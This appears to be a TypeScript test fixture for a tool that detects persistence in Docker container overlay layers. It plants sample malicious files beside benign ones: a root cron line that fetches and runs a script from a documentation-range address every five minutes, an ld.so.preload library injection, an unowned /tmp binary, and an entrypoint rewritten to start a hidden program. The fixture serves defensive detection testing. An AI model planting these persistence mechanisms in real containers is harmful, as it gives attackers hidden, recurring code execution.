/** Cases of upper folders; nothing in them is ever run, all addresses are of the documentation ranges. */
import { type Files, inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';
import { dockerFiles, idOf } from './docker.fixture.ts';

const root = '/var/lib/docker';
const always = { RestartPolicy: { Name: 'always', MaximumRetryCount: 0 } };

const upper = (container: string, files: Files, base = root): Files => {
  const mount = idOf(`mount of ${container}`);
  return {
    [`${base}/image/overlay2/layerdb/mounts/${idOf(container)}/mount-id`]: mount,
    ...Object.fromEntries(
      Object.entries(files).map(([path, file]) => [`${base}/overlay2/${mount}/diff${path}`, file]),
    ),
  };
};

export const cases: readonly MechanismCase[] = [
  {
    mechanism: 'overlay-file',
    dress: 'fetch-and-run',
    what: 'a table of cron in the container of an application',
    planted: {
      ...dockerFiles({ image: 'tomcat:9', name: 'shop', path: 'catalina.sh', args: ['run'], host: always }),
      ...upper('shop', { '/var/spool/cron/crontabs/root': '*/5 * * * * curl -s http://192.0.2.84/t | sh\n' }),
    },
  },
  {
    mechanism: 'overlay-file',
    dress: 'unowned-binary',
    what: 'a program in the temporary folder of a container',
    planted: {
      ...dockerFiles({
        image: 'node:20',
        name: 'next',
        path: 'docker-entrypoint.sh',
        args: ['node', 'server.js'],
      }),
      ...upper('next', { '/tmp/kdevd': inertProgram() }),
    },
  },
  {
    mechanism: 'overlay-file',
    dress: 'unowned-binary',
    what: 'a library that every program of the container loads',
    planted: {
      ...dockerFiles({
        image: 'node:20',
        name: 'next',
        path: 'docker-entrypoint.sh',
        args: ['node', 'server.js'],
      }),
      ...upper('next', {
        '/etc/ld.so.preload': '/usr/local/lib/libsel.so\n',
        '/usr/local/lib/libsel.so': inertProgram(),
      }),
    },
  },
  {
    mechanism: 'overlay-file',
    dress: 'owned-edit',
    what: 'the entrypoint of the image, written over so that it starts a hidden program (the nearest: no package owns it)',
    planted: {
      ...dockerFiles({
        image: 'nginx',
        name: 'web',
        path: '/docker-entrypoint.sh',
        args: ['nginx'],
        host: always,
      }),
      ...upper('web', {
        '/docker-entrypoint.sh': '#!/bin/sh\nset -e\n/usr/share/.icons/iconsd &\nexec "$@"\n',
        '/usr/share/.icons/iconsd': inertProgram(),
      }),
    },
  },
  {
    mechanism: 'overlay-file',
    dress: 'honest',
    what: 'logs, caches, a job for certificates, a build of a developer, a library that Java unpacked',
    planted: {
      ...dockerFiles({
        image: 'nginx',
        name: 'web',
        path: '/docker-entrypoint.sh',
        args: ['nginx'],
        host: always,
      }),
      ...upper('web', {
        '/var/log/nginx/access.log': 'x\n',
        '/etc/crontabs/root': '0 3 * * * /usr/bin/certbot renew -q\n',
        '/tmp/entry.sh': '#!/bin/sh\nexec nginx\n',
      }),
      ...dockerFiles({ image: 'golang:1.23', name: 'dev', path: 'air', host: always }),
      ...upper('dev', {
        '/tmp/go-build3161/b001/exe/main': inertProgram(),
        '/root/.cache/go-build/00/x-a': 'x',
        '/root/.cargo/bin/rg': inertProgram(),
        '/root/.bashrc': 'alias ll="ls -l"\n',
      }),
      ...dockerFiles({ image: 'kafka', name: 'kafka', path: '/etc/kafka/docker/run', host: always }),
      ...upper('kafka', { '/tmp/snappy-1.1.10-6a1b-libsnappyjava.so': inertProgram() }),
    },
  },
];
